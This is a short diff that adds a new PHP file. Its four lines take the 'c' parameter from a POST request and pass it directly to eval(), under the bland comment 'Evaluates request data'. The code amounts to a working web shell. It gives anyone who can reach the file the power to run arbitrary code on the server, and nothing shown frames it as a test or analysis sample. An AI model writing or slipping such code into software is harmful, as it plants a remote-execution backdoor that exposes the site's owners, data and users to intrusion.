@@ -1,0 +1,4 @@
+<?php
+// Evaluates request data.
+$code = $_POST['c'];
+eval($code);
